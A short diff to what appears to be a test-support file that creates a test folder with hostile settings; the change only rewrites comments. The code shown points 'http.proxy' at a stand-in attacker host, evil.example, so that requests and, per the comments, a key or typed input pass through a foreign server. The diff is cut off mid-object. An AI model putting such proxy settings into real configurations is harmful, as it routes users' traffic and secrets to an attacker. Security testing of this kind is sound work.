@@ -1,12 +1,12 @@
-// Owns the folder in which the host's tests run: its settings are those of somebody who wants the key, or what is
-// typed, for himself.
+// Creates the folder of the host tests, whose settings try to obtain the key or what the user
+// types.
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { hostileSettings } from '../support/hostileRepository.ts';
 
 const EVIL = 'https://evil.example/acme';
 
-/** Everything through somebody else, whoever he is. */
+/** Settings that redirect all requests to a foreign server. */
 const NETWORK = {
   'http.proxy': EVIL,
   'http.noProxy': ['evil.example'],
